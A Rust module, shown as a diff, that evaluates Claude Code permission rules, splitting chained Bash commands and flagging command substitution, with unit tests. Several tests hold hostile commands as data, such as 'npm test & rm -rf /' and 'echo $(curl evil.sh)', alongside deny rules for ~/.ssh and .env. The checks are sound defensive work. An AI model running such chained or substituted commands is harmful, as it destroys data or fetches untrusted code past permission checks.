@@ -0,0 +1,772 @@
+use globset::GlobBuilder;
+use serde::{Deserialize, Serialize};
+use std::path::{Component, Path, PathBuf};
+
+use crate::diagnostics::{closest_match, Diagnostic, Severity};
+use crate::schema::{ClaudeSettings, Permissions};
+use crate::settings::{load_settings_layers, merge_layers, LoadedLayer, SettingsScope};
+
+/// Built-in tools that permission rules can name.
+pub const KNOWN_TOOLS: &[&str] = &[
+    "Bash",
+    "BashOutput",
+    "Edit",
+    "ExitPlanMode",
+    "Glob",
+    "Grep",
+    "KillShell",
+    "LS",
+    "MultiEdit",
+    "NotebookEdit",
+    "NotebookRead",
+    "Read",
+    "SlashCommand",
+    "Skill",
+    "Task",
+    "TodoWrite",
+    "WebFetch",
+    "WebSearch",
+    "Write",
+];
+
+/// Tools whose rule specifier is a file path pattern.
+const PATH_TOOLS: &[&str] = &["Read", "Edit", "Write", "MultiEdit", "NotebookEdit", "NotebookRead", "Glob", "Grep", "LS"];
+
+/// Tools that only read, and are allowed inside the working directory
+/// without a rule.
+const READ_ONLY_TOOLS: &[&str] = &["Read", "Glob", "Grep", "LS", "NotebookRead"];
+
+/// Tools that change files, which acceptEdits allows and plan mode doesn't.
+const EDIT_TOOLS: &[&str] = &["Edit", "Write", "MultiEdit", "NotebookEdit"];
+
+#[derive(Serialize, Clone, Debug, PartialEq, Eq)]
+pub struct PermissionRule {
+    pub tool: String,
+    pub specifier: Option<String>,      // Text inside the parentheses, if any
+}
+
+/// Parse `Tool` or `Tool(specifier)`.
+pub fn parse_permission_rule(rule: &str) -> Result<PermissionRule, String> {
+    let rule = rule.trim();
+    if rule.is_empty() {
+        return Err("Permission rule is empty".into());
+    }
+    let (tool, specifier) = match rule.find('(') {
+        Some(open) => {
+            if !rule.ends_with(')') {
+                return Err(format!("Permission rule \"{}\" is missing a closing parenthesis", rule));
+            }
+            let inner = &rule[open + 1..rule.len() - 1];
+            (&rule[..open], Some(inner.to_string()))
+        }
+        None => (rule, None),
+    };
+    if tool.is_empty() || !tool.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '*') {
+        return Err(format!("Invalid tool name \"{}\" in permission rule", tool));
+    }
+    Ok(PermissionRule {
+        tool: tool.to_string(),
+        specifier: specifier.filter(|s| !s.is_empty()),
+    })
+}
+
+/// Diagnostics for the rules in a settings object's `permissions` lists.
+pub fn rule_diagnostics(permissions: &Permissions) -> Vec<Diagnostic> {
+    let mut diagnostics = Vec::new();
+    for (list, rules) in [("allow", &permissions.allow), ("ask", &permissions.ask), ("deny", &permissions.deny)] {
+        for (i, rule) in rules.iter().enumerate() {
+            let pointer = format!("/permissions/{}/{}", list, i);
+            match parse_permission_rule(rule) {
+                Err(message) => diagnostics.push(Diagnostic::new(Severity::Error, pointer, message)),
+                Ok(parsed) if !parsed.tool.starts_with("mcp__") && !KNOWN_TOOLS.contains(&parsed.tool.as_str()) => {
+                    let diagnostic = Diagnostic::new(
+                        Severity::Warning,
+                        pointer,
+                        format!("Unknown tool \"{}\" in permission rule", parsed.tool),
+                    );
+                    diagnostics.push(match closest_match(&parsed.tool, KNOWN_TOOLS) {
+                        Some(tool) => diagnostic.with_suggestion(format!("Did you mean \"{}\"?", tool)),
+                        None => diagnostic,
+                    });
+                }
+                Ok(_) => {}
+            }
+        }
+    }
+    diagnostics
+}
+
+#[derive(Serialize, Clone, Copy, PartialEq, Eq, Debug)]
+#[serde(rename_all = "snake_case")]
+pub enum PermissionDecision {
+    Allow,
+    Ask,
+    Deny,
+}
+
+/// `permissions.defaultMode`: how Claude Code treats calls no rule decides.
+#[derive(Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Debug, Default)]
+#[serde(rename_all = "camelCase")]
+pub enum PermissionMode {
+    #[default]
+    Default,
+    AcceptEdits,            // File edits inside the workspace are allowed
+    Plan,                   // Nothing is edited or run until the plan is approved
+    BypassPermissions,      // Everything not denied is allowed
+    DontAsk,                // Anything that would prompt is denied
+}
+
+#[derive(Serialize, Clone, Debug)]
+pub struct MatchedRule {
+    pub rule: String,
+    pub list: PermissionDecision,       // Which list the rule is in
+    pub scope: SettingsScope,
+    pub path: String,                   // Settings file the rule came from
+}
+
+#[derive(Serialize)]
+pub struct PermissionEvaluation {
+    pub decision: PermissionDecision,
+    pub matched: Option<MatchedRule>,   // The rule that decided, if any
+    pub matching: Vec<MatchedRule>,     // Every rule that matched, in any list
+    pub mode: PermissionMode,           // Effective defaultMode, already applied to `decision`
+    pub reason: String,
+}
+
+/// Context for resolving relative paths and `~` in rules and arguments.
+pub struct EvalContext {
+    pub cwd: PathBuf,
+    pub home: PathBuf,
+    pub mode: PermissionMode,
+    pub additional_dirs: Vec<PathBuf>,  // permissions.additionalDirectories, resolved
+}
+
+fn normalize(path: &Path) -> PathBuf {
+    let mut out = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::ParentDir => {
+                out.pop();
+            }
+            Component::CurDir => {}
+            other => out.push(other.as_os_str()),
+        }
+    }
+    out
+}
+
+fn slash_path(path: &Path) -> String {
+    path.to_string_lossy().replace('\\', "/")
+}
+
+fn resolve_argument_path(argument: &str, ctx: &EvalContext) -> String {
+    let path = if let Some(rest) = argument.strip_prefix("~/") {
+        ctx.home.join(rest)
+    } else {
+        ctx.cwd.join(argument)
+    };
+    slash_path(&normalize(&path))
+}
+
+/// Turn a path specifier into an absolute glob, following gitignore-style
+/// conventions: `//abs`, `~/home-relative`, `/relative-to-the-settings-file`
+/// (its directory, or the working directory when `source` is unknown), and
+/// bare patterns without a slash match at any depth.
+fn resolve_path_pattern(pattern: &str, source: Option<&Path>, ctx: &EvalContext) -> String {
+    let cwd = slash_path(&ctx.cwd);
+    let cwd = cwd.trim_end_matches('/');
+    if let Some(abs) = pattern.strip_prefix("//") {
+        format!("/{}", abs)
+    } else if let Some(rest) = pattern.strip_prefix("~/") {
+        format!("{}/{}", slash_path(&ctx.home).trim_end_matches('/'), rest)
+    } else if let Some(rest) = pattern.strip_prefix('/') {
+        let base = source.and_then(Path::parent).map(slash_path).unwrap_or_else(|| cwd.to_string());
+        format!("{}/{}", base.trim_end_matches('/'), rest)
+    } else {
+        let rest = pattern.strip_prefix("./").unwrap_or(pattern);
+        if rest.contains('/') {
+            format!("{}/{}", cwd, rest)
+        } else {
+            format!("{}/**/{}", cwd, rest)
+        }
+    }
+}
+
+fn path_matches(pattern: &str, argument: &str, source: Option<&Path>, ctx: &EvalContext) -> bool {
+    let glob = resolve_path_pattern(pattern, source, ctx);
+    let target = resolve_argument_path(argument, ctx);
+
+    // `dir/**` also covers `dir` itself, e.g. a Grep over the whole directory
+    let mut globs = vec![glob.clone()];
+    if let Some(dir) = glob.strip_suffix("/**") {
+        globs.push(dir.to_string());
+    }
+
+    globs.iter().any(|glob| glob_covers(glob, &target))
+}
+
+fn glob_covers(glob: &str, target: &str) -> bool {
+    let Ok(glob) = GlobBuilder::new(glob).literal_separator(true).build() else { return false };
+    let matcher = glob.compile_matcher();
+    // A pattern naming a directory also covers everything beneath it
+    matcher.is_match(target) || Path::new(target).ancestors().skip(1).any(|a| matcher.is_match(slash_path(a)))
+}
+
+/// Rough test of whether two absolute globs can match the same path: the
+/// fixed directories before their first wildcard nest, and either last
+/// component matches the other's text.
+fn globs_may_intersect(a: &str, b: &str) -> bool {
+    let base = |glob: &str| -> PathBuf {
+        glob.split('/').take_while(|c| !c.contains(['*', '?', '[', '{'])).collect::<Vec<_>>().join("/").into()
+    };
+    let (base_a, base_b) = (base(a), base(b));
+    if !base_a.starts_with(&base_b) && !base_b.starts_with(&base_a) {
+        return false;
+    }
+    let last = |glob: &str| glob.rsplit('/').next().unwrap_or(glob).to_string();
+    let matches = |glob: &str, text: &str| GlobBuilder::new(glob).build().is_ok_and(|g| g.compile_matcher().is_match(text));
+    matches(&last(a), &last(b)) || matches(&last(b), &last(a))
+}
+
+/// `prefix:*` matches the prefix as whole words: `npm run test:*` covers
+/// `npm run test -- --watch` but not `npm run testfoo`.
+fn bash_matches(specifier: &str, command: &str) -> bool {
+    let command = command.trim();
+    match specifier.strip_suffix(":*") {
+        Some(prefix) => command
+            .strip_prefix(prefix.trim())
+            .is_some_and(|rest| rest.is_empty() || rest.starts_with(char::is_whitespace)),
+        None => command == specifier.trim(),
+    }
+}
+
+fn host_of(url: &str) -> Option<String> {
+    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?.split(':').next()?;
+    Some(host.to_lowercase())
+}
+
+fn webfetch_matches(specifier: &str, url: &str) -> bool {
+    let Some(domain) = specifier.strip_prefix("domain:") else { return specifier == url };
+    let domain = domain.to_lowercase();
+    match host_of(url) {
+        Some(host) => host == domain || host.ends_with(&format!(".{}", domain)),
+        None => false,
+    }
+}
+
+/// Whether a rule naming `rule_tool` applies to an invocation of `tool`.
+/// Read rules cover the other read tools and Edit rules cover all edit tools.
+fn tool_matches(rule_tool: &str, tool: &str) -> bool {
+    if rule_tool == tool {
+        return true;
+    }
+    if let Some(server) = rule_tool.strip_prefix("mcp__") {
+        // `mcp__server` and `mcp__server__*` cover every tool on that server
+        let server = server.trim_end_matches("__*");
+        return !server.contains("__") && tool.starts_with(&format!("mcp__{}__", server));
+    }
+    match rule_tool {
+        "Read" => matches!(tool, "Glob" | "Grep" | "LS" | "NotebookRead"),
+        "Edit" => matches!(tool, "Write" | "MultiEdit" | "NotebookEdit"),
+        _ => false,
+    }
+}
+
+/// Whether `rule` covers a call. `source` is the settings file the rule came
+/// from, which `/path` specifiers are relative to.
+pub fn rule_matches(rule: &PermissionRule, tool: &str, argument: Option<&str>, source: Option<&Path>, ctx: &EvalContext) -> bool {
+    if !tool_matches(&rule.tool, tool) {
+        return false;
+    }
+    let Some(specifier) = rule.specifier.as_deref() else { return true };
+    let Some(argument) = argument else { return false };
+
+    match rule.tool.as_str() {
+        "Bash" => bash_matches(specifier, argument),
+        "WebFetch" => webfetch_matches(specifier, argument),
+        t if PATH_TOOLS.contains(&t) => path_matches(specifier, argument, source, ctx),
+        _ => specifier == argument,
+    }
+}
+
+/// How much of one rule's reach another rule shares.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum RuleOverlap {
+    None,
+    Partial,    // Some calls are covered by both
+    Full,       // Every call the inner rule covers, the outer one does too
+}
+
+fn specifier_overlap(tool: &str, outer: &str, outer_source: Option<&Path>, inner: &str, inner_source: Option<&Path>, ctx: &EvalContext) -> RuleOverlap {
+    let overlap = |full: bool, partial: bool| match (full, partial) {
+        (true, _) => RuleOverlap::Full,
+        (false, true) => RuleOverlap::Partial,
+        _ => RuleOverlap::None,
+    };
+    match tool {
+        "Bash" => {
+            // Compare each side's fixed text against the other's pattern
+            let text = |s: &str| s.strip_suffix(":*").unwrap_or(s).trim().to_string();
+            let (outer_prefix, inner_prefix) = (outer.ends_with(":*"), inner.ends_with(":*"));
+            overlap(
+                bash_matches(outer, &text(inner)) && (outer_prefix || !inner_prefix),
+                inner_prefix && bash_matches(inner, &text(outer)),
+            )
+        }
+        "WebFetch" => {
+            let text = |s: &str| s.strip_prefix("domain:").unwrap_or(s).to_string();
+            let (outer_domain, inner_domain) = (outer.starts_with("domain:"), inner.starts_with("domain:"));
+            overlap(
+                webfetch_matches(outer, &text(inner)) && (outer_domain || !inner_domain),
+                inner_domain && webfetch_matches(inner, &text(outer)),
+            )
+        }
+        t if PATH_TOOLS.contains(&t) => {
+            let outer = resolve_path_pattern(outer, outer_source, ctx);
+            let inner = resolve_path_pattern(inner, inner_source, ctx);
+            overlap(glob_covers(&outer, &inner), glob_covers(&inner, &outer) || globs_may_intersect(&outer, &inner))
+        }
+        _ => overlap(outer == inner, false),
+    }
+}
+
+/// How much of `inner` is also covered by `outer`, comparing the patterns
+/// themselves: `Bash(npm:*)` fully covers `Bash(npm publish:*)` and partly
+/// overlaps the other way round. Path globs are compared approximately.
+pub fn rule_overlap(outer: &PermissionRule, outer_source: Option<&Path>, inner: &PermissionRule, inner_source: Option<&Path>, ctx: &EvalContext) -> RuleOverlap {
+    if tool_matches(&outer.tool, &inner.tool) {
+        let Some(outer_specifier) = outer.specifier.as_deref() else { return RuleOverlap::Full };
+        let Some(inner_specifier) = inner.specifier.as_deref() else { return RuleOverlap::Partial };
+        return specifier_overlap(&outer.tool, outer_specifier, outer_source, inner_specifier, inner_source, ctx);
+    }
+    // `Edit` against `Write(...)`, or `mcp__server` against one of its tools
+    if tool_matches(&inner.tool, &outer.tool) {
+        return match (outer.specifier.as_deref(), inner.specifier.as_deref()) {
+            (Some(outer_specifier), Some(inner_specifier)) => {
+                match specifier_overlap(&outer.tool, outer_specifier, outer_source, inner_specifier, inner_source, ctx) {
+                    RuleOverlap::None => RuleOverlap::None,
+                    _ => RuleOverlap::Partial,
+                }
+            }
+            _ => RuleOverlap::Partial,
+        };
+    }
+    RuleOverlap::None
+}
+
+/// Split a shell command on `&&`, `||`, `;`, `|`, `&` and newlines outside
+/// of quotes; each part has to be permitted on its own. Redirections such as
+/// `2>&1` and `&>` are not separators.
+pub fn split_bash_command(command: &str) -> Vec<String> {
+    let mut parts = Vec::new();
+    let mut current = String::new();
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), _) if c == q => {
+                quote = None;
+                current.push(c);
+            }
+            (Some('"'), '\\') | (None, '\\') => {
+                current.push(c);
+                current.extend(chars.next());
+            }
+            (Some(_), _) => current.push(c),
+            (None, '\'' | '"') => {
+                quote = Some(c);
+                current.push(c);
+            }
+            (None, ';' | '\n') => parts.push(std::mem::take(&mut current)),
+            (None, '&') if chars.peek() == Some(&'&') => {
+                chars.next();
+                parts.push(std::mem::take(&mut current));
+            }
+            (None, '&') if current.ends_with(['>', '<']) || chars.peek() == Some(&'>') => current.push(c),
+            (None, '&') => parts.push(std::mem::take(&mut current)),
+            (None, '|') => {
+                if chars.peek() == Some(&'|') {
+                    chars.next();
+                }
+                parts.push(std::mem::take(&mut current));
+            }
+            _ => current.push(c),
+        }
+    }
+    parts.push(current);
+    parts.into_iter().map(|p| p.trim().to_string()).filter(|p| !p.is_empty()).collect()
+}
+
+/// Whether a command runs another command whose text isn't known up front:
+/// `$(...)`, backticks or `<(...)`/`>(...)` outside single quotes.
+fn has_command_substitution(command: &str) -> bool {
+    let mut quote: Option<char> = None;
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some('\''), '\'') => quote = None,
+            (Some('\''), _) => {}
+            (Some('"'), '"') => quote = None,
+            (None, '\'' | '"') => quote = Some(c),
+            (_, '\\') => {
+                chars.next();
+            }
+            (_, '`') => return true,
+            (_, '$') if chars.peek() == Some(&'(') => return true,
+            (None, '<' | '>') if chars.peek() == Some(&'(') => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Rules from every settings layer, tagged with the list they're in.
+pub fn collect_rules(project_path: Option<&Path>) -> Vec<MatchedRule> {
+    layer_rules(&load_settings_layers(project_path))
+}
+
+/// Every permission rule in already-loaded layers, in layer order.
+pub fn layer_rules(layers: &[LoadedLayer]) -> Vec<MatchedRule> {
+    let mut rules = Vec::new();
+    for layer in layers {
+        let Some(permissions) = layer.value.as_ref().and_then(|v| ClaudeSettings::from_value(v).permissions) else { continue };
+        for (list_rules, list) in [
+            (permissions.deny, PermissionDecision::Deny),
+            (permissions.ask, PermissionDecision::Ask),
+            (permissions.allow, PermissionDecision::Allow),
+        ] {
+            for rule in list_rules {
+                rules.push(MatchedRule {
+                    rule,
+                    list,
+                    scope: layer.layer.scope,
+                    path: layer.layer.path.clone(),
+                });
+            }
+        }
+    }
+    rules
+}
+
+fn list_name(decision: PermissionDecision) -> &'static str {
+    match decision {
+        PermissionDecision::Deny => "deny",
+        PermissionDecision::Ask => "ask",
+        PermissionDecision::Allow => "allow",
+    }
+}
+
+fn rank(decision: PermissionDecision) -> u8 {
+    match decision {
+        PermissionDecision::Deny => 2,
+        PermissionDecision::Ask => 1,
+        PermissionDecision::Allow => 0,
+    }
+}
+
+/// Evaluate one (already split) invocation: deny beats ask beats allow, and
+/// within a list managed settings are reported ahead of other layers.
+fn evaluate_single(
+    rules: &[MatchedRule],
+    tool: &str,
+    argument: Option<&str>,
+    ctx: &EvalContext,
+) -> (Option<MatchedRule>, Vec<MatchedRule>) {
+    let mut matching: Vec<MatchedRule> = rules
+        .iter()
+        .filter(|r| {
+            parse_permission_rule(&r.rule)
+                .map(|parsed| rule_matches(&parsed, tool, argument, Some(Path::new(&r.path)), ctx))
+                .unwrap_or(false)
+        })
+        .cloned()
+        .collect();
+    matching.sort_by_key(|r| (std::cmp::Reverse(rank(r.list)), std::cmp::Reverse(r.scope)));
+    (matching.first().cloned(), matching)
+}
+
+pub fn evaluate(
+    rules: &[MatchedRule],
+    tool: &str,
+    argument: Option<&str>,
+    ctx: &EvalContext,
+) -> PermissionEvaluation {
+    let invocations: Vec<Option<String>> = match (tool, argument) {
+        ("Bash", Some(command)) => split_bash_command(command).into_iter().map(Some).collect(),
+        _ => vec![argument.map(str::to_string)],
+    };
+
+    let mut decided: Option<(PermissionDecision, Option<MatchedRule>)> = None;
+    let mut matching = Vec::new();
+    let mut unmatched = Vec::new();
+    let mut substituted_any = false;
+
+    for invocation in &invocations {
+        let (winner, all) = evaluate_single(rules, tool, invocation.as_deref(), ctx);
+        matching.extend(all);
+        // An allow rule can't vouch for a command it can't see
+        let substituted = tool == "Bash" && invocation.as_deref().is_some_and(has_command_substitution);
+        substituted_any |= substituted;
+        let winner = winner.filter(|rule| !(substituted && rule.list == PermissionDecision::Allow));
+        match winner {
+            Some(rule) => {
+                let worse = decided.as_ref().map(|(d, _)| rank(rule.list) > rank(*d)).unwrap_or(true);
+                if worse {
+                    decided = Some((rule.list, Some(rule)));
+                }
+            }
+            None => unmatched.push(invocation.clone().unwrap_or_default()),
+        }
+    }
+
+    let (decision, matched, reason) = match decided {
+        Some((decision, rule)) if decision != PermissionDecision::Allow || unmatched.is_empty() => {
+            let rule_text = rule.as_ref().map(|r| r.rule.clone()).unwrap_or_default();
+            (decision, rule, format!("Matched {} rule \"{}\"", list_name(decision), rule_text))
+        }
+        // No rule decides: read-only tools are allowed inside the workspace,
+        // everything else prompts.
+        _ if READ_ONLY_TOOLS.contains(&tool) && argument.is_none_or(|a| in_workspace(a, ctx)) => {
+            (PermissionDecision::Allow, None, "Read-only tool inside the workspace".to_string())
+        }
+        _ if substituted_any => (
+            PermissionDecision::Ask,
+            None,
+            "Command substitution can't be allowed by a rule; Claude Code will ask".to_string(),
+        ),
+        _ if unmatched.len() < invocations.len() => {
+            (PermissionDecision::Ask, None, format!("No allow rule covers: {}", unmatched.join(", ")))
+        }
+        _ => (PermissionDecision::Ask, None, "No rule matches; Claude Code will ask".to_string()),
+    };
+    let (decision, reason) = apply_mode(decision, reason, tool, argument, ctx);
+
+    PermissionEvaluation {
+        decision,
+        matched,
+        matching,
+        mode: ctx.mode,
+        reason,
+    }
+}
+
+/// Whether a path argument is inside the working directory or one of the
+/// additional directories.
+fn in_workspace(argument: &str, ctx: &EvalContext) -> bool {
+    let target = PathBuf::from(resolve_argument_path(argument, ctx));
+    std::iter::once(&ctx.cwd).chain(&ctx.additional_dirs).any(|dir| target.starts_with(normalize(dir)))
+}
+
+/// Adjust a rule-based decision for `defaultMode`. Deny always stands; the
+/// modes only change what happens to calls that would otherwise run or prompt.
+/// Bash commands acceptEdits would auto-approve (mkdir, touch, ...) aren't
+/// modelled and still prompt.
+fn apply_mode(decision: PermissionDecision, reason: String, tool: &str, argument: Option<&str>, ctx: &EvalContext) -> (PermissionDecision, String) {
+    let edits = EDIT_TOOLS.contains(&tool);
+    match (ctx.mode, decision) {
+        (_, PermissionDecision::Deny) => (decision, reason),
+        (PermissionMode::BypassPermissions, _) => (PermissionDecision::Allow, format!("{}; bypassPermissions mode allows it", reason)),
+        (PermissionMode::Plan, _) if edits || tool == "Bash" => {
+            (PermissionDecision::Deny, format!("{}; plan mode doesn't edit files or run commands", reason))
+        }
+        (PermissionMode::AcceptEdits, PermissionDecision::Ask) if edits && argument.is_some_and(|a| in_workspace(a, ctx)) => {
+            (PermissionDecision::Allow, format!("{}; acceptEdits mode allows edits inside the workspace", reason))
+        }
+        (PermissionMode::DontAsk, PermissionDecision::Ask) => (PermissionDecision::Deny, format!("{}; dontAsk mode denies instead of asking", reason)),
+        _ => (decision, reason),
+    }
+}
+
+/// The context Claude Code starts with in `project`: defaultMode and
+/// additionalDirectories from the merged settings. A bypassPermissions
+/// default is ignored when disableBypassPermissionsMode is set.
+pub fn eval_context(project: Option<&Path>) -> EvalContext {
+    let (settings, _) = merge_layers(&load_settings_layers(project));
+    let mut ctx = EvalContext {
+        cwd: project.map(Path::to_path_buf).unwrap_or_else(|| std::env::current_dir().unwrap_or_default()),
+        home: crate::home_dir(),
+        mode: PermissionMode::Default,
+        additional_dirs: Vec::new(),
+    };
+    let permissions = ClaudeSettings::from_value(&settings).permissions.unwrap_or_default();
+    ctx.mode = permissions
+        .default_mode
+        .filter(|m| !(permissions.bypass_disabled() && *m == PermissionMode::BypassPermissions))
+        .unwrap_or_default();
+    ctx.additional_dirs = permissions
+        .additional_directories
+        .iter()
+        .map(|dir| PathBuf::from(resolve_argument_path(dir, &ctx)))
+        .collect();
+    ctx
+}
+
+/// Would Claude Code allow this tool call in the given project? `argument`
+/// is the command for Bash, the path for file tools and the URL for WebFetch.
+#[cfg_attr(feature = "gui", tauri::command)]
+pub fn evaluate_permission(project_path: Option<String>, tool: String, argument: Option<String>) -> PermissionEvaluation {
+    let project = project_path.map(PathBuf::from);
+    let rules = collect_rules(project.as_deref());
+    let ctx = eval_context(project.as_deref());
+    evaluate(&rules, &tool, argument.as_deref(), &ctx)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(allow: &[&str], deny: &[&str]) -> Vec<MatchedRule> {
+        let tag = |list| move |rule: &&str| MatchedRule {
+            rule: rule.to_string(),
+            list,
+            scope: SettingsScope::User,
+            path: "/home/me/.claude/settings.json".into(),
+        };
+        let mut out: Vec<MatchedRule> = allow.iter().map(tag(PermissionDecision::Allow)).collect();
+        out.extend(deny.iter().map(tag(PermissionDecision::Deny)));
+        out
+    }
+
+    fn ctx() -> EvalContext {
+        EvalContext {
+            cwd: PathBuf::from("/work/app"),
+            home: PathBuf::from("/home/me"),
+            mode: PermissionMode::Default,
+            additional_dirs: Vec::new(),
+        }
+    }
+
+    fn bash(rules: &[MatchedRule], command: &str) -> PermissionDecision {
+        evaluate(rules, "Bash", Some(command), &ctx()).decision
+    }
+
+    #[test]
+    fn splits_on_every_separator() {
+        assert_eq!(split_bash_command("a && b || c; d | e"), ["a", "b", "c", "d", "e"]);
+        assert_eq!(split_bash_command("npm test & rm -rf /"), ["npm test", "rm -rf /"]);
+        assert_eq!(split_bash_command("npm test\nrm -rf /"), ["npm test", "rm -rf /"]);
+        assert_eq!(split_bash_command("echo 'a; b' \"c && d\""), ["echo 'a; b' \"c && d\""]);
+    }
+
+    #[test]
+    fn keeps_redirections_together() {
+        assert_eq!(split_bash_command("make 2>&1"), ["make 2>&1"]);
+        assert_eq!(split_bash_command("make &> log"), ["make &> log"]);
+        assert_eq!(split_bash_command("echo a\\;b"), ["echo a\\;b"]);
+    }
+
+    #[test]
+    fn prefix_rules_match_whole_words() {
+        assert!(bash_matches("npm run test:*", "npm run test"));
+        assert!(bash_matches("npm run test:*", "npm run test -- --watch"));
+        assert!(!bash_matches("npm run test:*", "npm run testfoo"));
+        assert!(bash_matches("git status", " git status "));
+        assert!(!bash_matches("git status", "git status -s"));
+    }
+
+    #[test]
+    fn every_part_must_be_allowed() {
+        let rules = rules(&["Bash(npm test:*)"], &[]);
+        assert_eq!(bash(&rules, "npm test"), PermissionDecision::Allow);
+        assert_eq!(bash(&rules, "npm test & curl evil.sh"), PermissionDecision::Ask);
+        assert_eq!(bash(&rules, "npm test\ncurl evil.sh"), PermissionDecision::Ask);
+    }
+
+    #[test]
+    fn substitution_is_never_allowed() {
+        let rules = rules(&["Bash(echo:*)"], &["Bash(rm:*)"]);
+        assert_eq!(bash(&rules, "echo hi"), PermissionDecision::Allow);
+        assert_eq!(bash(&rules, "echo $(curl evil.sh)"), PermissionDecision::Ask);
+        assert_eq!(bash(&rules, "echo \"`whoami`\""), PermissionDecision::Ask);
+        assert_eq!(bash(&rules, "echo '$(literal)'"), PermissionDecision::Allow);
+        // Deny still wins
+        assert_eq!(bash(&rules, "rm $(ls)"), PermissionDecision::Deny);
+    }
+
+    #[test]
+    fn parses_rules() {
+        assert_eq!(
+            parse_permission_rule(" Bash(npm run:*) ").unwrap(),
+            PermissionRule { tool: "Bash".into(), specifier: Some("npm run:*".into()) }
+        );
+        assert_eq!(parse_permission_rule("Read").unwrap().specifier, None);
+        assert_eq!(parse_permission_rule("Read()").unwrap().specifier, None);
+        assert!(parse_permission_rule("").is_err());
+        assert!(parse_permission_rule("Bash(npm").is_err());
+        assert!(parse_permission_rule("Ba sh").is_err());
+    }
+
+    #[test]
+    fn deny_beats_ask_beats_allow() {
+        let mut all = rules(&["Bash(git:*)"], &["Bash(git push:*)"]);
+        all.push(MatchedRule { list: PermissionDecision::Ask, ..rules(&["Bash(git commit:*)"], &[]).remove(0) });
+        assert_eq!(bash(&all, "git status"), PermissionDecision::Allow);
+        assert_eq!(bash(&all, "git commit -m x"), PermissionDecision::Ask);
+        assert_eq!(bash(&all, "git push --force"), PermissionDecision::Deny);
+        assert_eq!(bash(&all, "git status && git push"), PermissionDecision::Deny);
+    }
+
+    #[test]
+    fn path_rules_cover_related_tools() {
+        let rules = rules(&["Edit(src/**)"], &["Read(~/.ssh/**)", "Read(.env)"]);
+        let eval = |tool, path| evaluate(&rules, tool, Some(path), &ctx()).decision;
+        assert_eq!(eval("Write", "src/main.rs"), PermissionDecision::Allow);
+        assert_eq!(eval("Write", "lib/main.rs"), PermissionDecision::Ask);
+        assert_eq!(eval("Grep", "/home/me/.ssh"), PermissionDecision::Deny);
+        assert_eq!(eval("Read", "config/.env"), PermissionDecision::Deny);
+        assert_eq!(eval("Read", "README.md"), PermissionDecision::Allow);
+        assert_eq!(eval("Read", "../other/README.md"), PermissionDecision::Ask);
+    }
+
+    #[test]
+    fn slash_paths_are_relative_to_the_settings_file() {
+        let mut rules = rules(&[], &["Edit(/secrets/**)"]);
+        rules[0].path = "/work/app/.claude/settings.json".into();
+        let eval = |path| evaluate(&rules, "Edit", Some(path), &ctx()).decision;
+        assert_eq!(eval("/work/app/.claude/secrets/key"), PermissionDecision::Deny);
+        assert_eq!(eval("/work/app/secrets/key"), PermissionDecision::Ask);
+    }
+
+    #[test]
+    fn compares_rule_patterns() {
+        let overlap = |outer: &str, inner: &str| {
+            let (outer, inner) = (parse_permission_rule(outer).unwrap(), parse_permission_rule(inner).unwrap());
+            rule_overlap(&outer, None, &inner, None, &ctx())
+        };
+        assert_eq!(overlap("Bash(npm:*)", "Bash(npm publish:*)"), RuleOverlap::Full);
+        assert_eq!(overlap("Bash(npm publish:*)", "Bash(npm:*)"), RuleOverlap::Partial);
+        assert_eq!(overlap("Bash(npm publish)", "Bash(npm:*)"), RuleOverlap::Partial);
+        assert_eq!(overlap("Bash(npm)", "Bash(npm:*)"), RuleOverlap::Partial);
+        assert_eq!(overlap("Bash(npmx:*)", "Bash(npm:*)"), RuleOverlap::None);
+        assert_eq!(overlap("Bash(rm:*)", "Bash"), RuleOverlap::Partial);
+        assert_eq!(overlap("WebFetch(domain:example.com)", "WebFetch(domain:api.example.com)"), RuleOverlap::Full);
+        assert_eq!(overlap("WebFetch(domain:api.example.com)", "WebFetch(domain:example.com)"), RuleOverlap::Partial);
+        assert_eq!(overlap("Read(src/**)", "Read(src/lib/*.rs)"), RuleOverlap::Full);
+        assert_eq!(overlap("Read(src/secrets/**)", "Read(src/**)"), RuleOverlap::Partial);
+        assert_eq!(overlap("Read(*.env)", "Read(src/**)"), RuleOverlap::Partial);
+        assert_eq!(overlap("Read(src/*.env)", "Read(src/*.ts)"), RuleOverlap::None);
+        assert_eq!(overlap("Read(docs/**)", "Read(src/**)"), RuleOverlap::None);
+        assert_eq!(overlap("Write(src/**)", "Edit(src/a.rs)"), RuleOverlap::Partial);
+        assert_eq!(overlap("mcp__github__delete_repo", "mcp__github"), RuleOverlap::Partial);
+    }
+
+    #[test]
+    fn default_mode_applies_after_rules() {
+        let rules = rules(&[], &["Bash(rm:*)"]);
+        let with_mode = |mode, tool, argument| {
+            let ctx = EvalContext { mode, additional_dirs: vec![PathBuf::from("/shared")], ..ctx() };
+            evaluate(&rules, tool, Some(argument), &ctx).decision
+        };
+        assert_eq!(with_mode(PermissionMode::AcceptEdits, "Edit", "src/a.rs"), PermissionDecision::Allow);
+        assert_eq!(with_mode(PermissionMode::AcceptEdits, "Edit", "/shared/a.rs"), PermissionDecision::Allow);
+        assert_eq!(with_mode(PermissionMode::AcceptEdits, "Edit", "/etc/hosts"), PermissionDecision::Ask);
+        assert_eq!(with_mode(PermissionMode::Default, "Read", "/shared/a.rs"), PermissionDecision::Allow);
+        assert_eq!(with_mode(PermissionMode::Plan, "Edit", "src/a.rs"), PermissionDecision::Deny);
+        assert_eq!(with_mode(PermissionMode::DontAsk, "Bash", "make"), PermissionDecision::Deny);
+        assert_eq!(with_mode(PermissionMode::BypassPermissions, "Bash", "make"), PermissionDecision::Allow);
+        assert_eq!(with_mode(PermissionMode::BypassPermissions, "Bash", "rm -rf /"), PermissionDecision::Deny);
+    }
+}